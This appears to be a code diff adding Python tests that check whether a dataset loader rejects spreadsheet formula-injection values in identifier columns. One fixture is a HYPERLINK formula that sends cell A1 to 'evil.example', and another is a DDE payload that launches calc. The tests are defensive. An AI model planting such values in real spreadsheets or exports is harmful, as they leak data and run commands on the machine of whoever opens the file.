@@ -117,6 +117,27 @@ def test_ids_as_people_write_them() -> None:
     assert _code("2025-0301-1234") is None  # dates and case numbers are not grouped numbers
 
 
+@pytest.mark.parametrize(
+    ("column", "value"),
+    [("case_id", '=HYPERLINK("http://evil.example/?x="&A1,"C0")'), ("case_id", "@SUM(1)"),
+     ("petitioner_id", "+1"), ("county_code", "-2+3+cmd|' /C calc'!A0"),
+     ("township_code", "\tT01"), ("responsible_unit", "-U01")],
+)  # fmt: skip
+def test_an_identifier_a_spreadsheet_would_run_is_refused(
+    write_dataset: DatasetWriter, column: str, value: str
+) -> None:
+    """The score file and the features keep identifiers exactly (machines read them),
+    so one that a spreadsheet would run as a formula may not get in at all."""
+    with pytest.raises(Exception, match="formula"):
+        load_dataset(write_dataset(cases=[case_row(0, **{column: value})]))
+
+
+def test_a_dash_alone_or_before_a_number_is_a_value(write_dataset: DatasetWriter) -> None:
+    cases = [case_row(0, township_code="-"), case_row(1, responsible_unit="-1"), case_row(2)]
+    dataset = load_dataset(write_dataset(cases=cases))
+    assert dataset.cases["township_code"].to_list()[0] == "-"
+
+
 def test_redaction_covers_neighbouring_numbers() -> None:
     text = f"电话13812345678,13912345678 身份证{valid_id_number()} 座机010-12345678"
     assert redact_text(text) == "电话[手机号],[手机号] 身份证[身份证号] 座机[电话]"
